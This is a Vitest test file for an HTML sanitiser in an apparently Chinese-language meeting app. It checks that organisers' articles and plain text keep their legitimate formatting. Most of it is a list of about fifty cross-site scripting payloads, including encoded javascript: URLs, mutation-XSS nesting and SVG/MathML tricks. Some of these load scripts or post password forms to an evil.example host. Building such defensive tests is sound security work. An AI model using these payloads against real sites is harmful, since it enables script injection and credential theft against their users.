/**
 * What people write is shown to everyone; what attackers write is shown to no one.
 * @vitest-environment jsdom
 */
import { describe, expect, it } from 'vitest'
import { article, articleOrText, paragraphs } from '#server/features/meeting/sanitise.ts'

/** Attempts that must leave nothing behind that runs, loads from elsewhere unasked, or restyles the page. */
const attempts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="https://a.example/x.png" srcset="javascript:alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\u200bscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://a.example" target="_blank" onclick="alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,x"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"><button>登录</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0">盖住页面</p>',
  '<div class="van-dialog" id="app">x</div>',
  '<p onmouseover="alert(1)" data-x="1">x</p>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<table background="javascript:alert(1)"><td background="x">x</td></table>',
  '<video src="x" onerror="alert(1)"></video><audio autoplay src="x">',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
]

const ALLOWED_ATTRIBUTES = new Set([
  'href',
  'title',
  'rel',
  'src',
  'alt',
  'width',
  'height',
  'loading',
  'decoding',
  'colspan',
  'rowspan',
  'scope',
  'start',
])

/** What a browser makes of it, judged element by element. */
function dangers(html: string): string[] {
  const found: string[] = []
  for (const element of new DOMParser().parseFromString(`<!doctype html><body>${html}`, 'text/html').body.querySelectorAll('*')) {
    const name = element.localName
    if (
      /^(?:script|style|iframe|object|embed|svg|math|form|input|button|textarea|select|meta|link|base|template|noscript|video|audio|details|frame|xmp)$/.test(
        name,
      ) ||
      name.includes(':')
    )
      found.push(name)
    for (const { name: attribute, value } of element.attributes) {
      if (!ALLOWED_ATTRIBUTES.has(attribute)) found.push(attribute)
      if (attribute === 'href' && !/^(?:https?:\/\/|mailto:|tel:|\/(?![/\\]))/.test(value)) found.push(value)
      if (attribute === 'src' && !/^(?:https?:\/\/|\/(?![/\\])|data:image\/(?:png|jpeg|webp);base64,)/.test(value)) found.push(value)
    }
  }
  return found
}

describe('somebody who attacks', () => {
  it.each(attempts)('gets nothing through with %s', (attempt) => {
    for (const html of [article(attempt), articleOrText(attempt), paragraphs(attempt), article(`<p>前</p>${attempt}<p>后</p>`)])
      expect(dangers(html)).toEqual([])
    expect(article(`<p>前</p>${attempt}`)).toContain('<p>前</p>')
  })

  it('would be caught: the judge of these tests sees through most of them unsanitised', () => {
    expect(attempts.filter((attempt) => dangers(attempt).length === 0).length).toBeLessThan(attempts.length / 5)
  })

  it('is not believed about nesting', () => {
    const deep = article('<div>'.repeat(5000) + 'x' + '</div>'.repeat(5000))
    expect(deep.length).toBeLessThan(2000)
  })
})

describe('an organiser who writes an article', () => {
  const written = [
    '<h2>交通</h2>',
    '<p>地铁 <strong>3 号线</strong><br />步行 <em>6</em> 分钟</p>',
    '<ul><li>一</li></ul>',
    '<ol start="3"><li>二</li></ol>',
    '<table><thead><tr><th colspan="2" scope="col">时间</th></tr></thead><tbody><tr><td rowspan="2">9:00</td></tr></tbody></table>',
    '<figure><img src="/uploads/a.png" width="600" height="400" alt="会场" loading="lazy" decoding="async" /><figcaption>会场</figcaption></figure>',
    '<blockquote>引文</blockquote>',
    '<pre><code>1 &lt; 2</code></pre>',
    '<p><a href="https://a.example/?a=1&amp;b=2" rel="noopener">官网</a> <a href="tel:0571-80000000" rel="noopener">电话</a> <a href="mailto:a@b.example" rel="noopener">邮件</a> <a href="/pages/index/schedule" rel="noopener">日程</a></p>',
  ].join('\n')

  it('finds it as written, and saved again it stays the same', () => {
    expect(article(written)).toBe(written)
  })

  it('finds headings below the page’s own, and what was pasted from an editor without its looks', () => {
    expect(article('<h1 class="x">标题</h1><section style="color:red"><p><span style="font-size:14px">正文</span></p></section>')).toBe(
      '<h2>标题</h2><div><p>正文</p></div>',
    )
  })

  it('passes no host off as another', () => {
    expect(article('<p><a href="https://bank.example@evil.example/">银行</a></p>')).toBe('<p><a>银行</a></p>')
  })

  it('may paste a small picture, not a large one and not a drawing that can run', () => {
    const png = (size: number) => `<img src="data:image/png;base64,${'A'.repeat(size)}">`
    expect(article(png(400))).toContain('src="data:image/png;base64,AAAA')
    expect(article(`<p>${png(100_000)}</p>`)).toBe('<p></p>')
    expect(article('<img src="data:image/svg+xml;base64,AAAA">')).toBe('')
  })
})

describe('an organiser who writes plain text', () => {
  it('sees paragraphs, line breaks and links', () => {
    expect(paragraphs('第一段\r\n第二行\n\n\n  第二段 1 < 2 & "3"  ')).toBe('<p>第一段<br />第二行</p>\n<p>第二段 1 &lt; 2 &amp; "3"</p>')
    expect(paragraphs('')).toBe('')
  })

  it.each([
    ['见 https://a.example/x。下一句', 'https://a.example/x'],
    ['（https://a.example/x_(y)）', 'https://a.example/x_(y)'],
    ['(see https://a.example/?a=1&b=2).', 'https://a.example/?a=1&amp;b=2'],
    ['https://a.example/"onmouseover="alert(1)', 'https://a.example/'],
  ])('%s links to the address alone', (text, link) => {
    expect(paragraphs(text)).toContain(`<a href="${link}" rel="noopener">${link}</a>`)
  })

  it.each(['javascript:alert(1)', 'https://', 'ftp://a.example', 'https://bank.example@evil.example'])('%s is no link', (text) => {
    expect(paragraphs(text)).toBe(`<p>${text}</p>`)
  })

  it('has what it became pass as an article unchanged', () => {
    for (const text of ['a < b\n\nhttps://a.example/?a=1&b=2 "q" \'s\'', '<b>不是标签</b>', '&lt;', '表情 👩‍👩‍👧\n第二行'])
      expect(article(paragraphs(text))).toBe(paragraphs(text))
  })
})

describe('text of which nobody says what it is', () => {
  it('is plain where it holds no tag, and HTML with its lines where it does', () => {
    expect(articleOrText('a < b > c\nd <mail@a.example>')).toBe('<p>a &lt; b &gt; c<br />d &lt;mail@a.example&gt;</p>')
    expect(articleOrText('一 <i>二</i>\n三\n\n四')).toBe('<p>一 <i>二</i><br />三</p>\n<p>四</p>')
    expect(articleOrText('前\n\n<ul>\n<li>一</li>\n</ul>\n\n后')).toBe('<p>前</p>\n<ul>\n<li>一</li>\n</ul>\n<p>后</p>')
  })
})
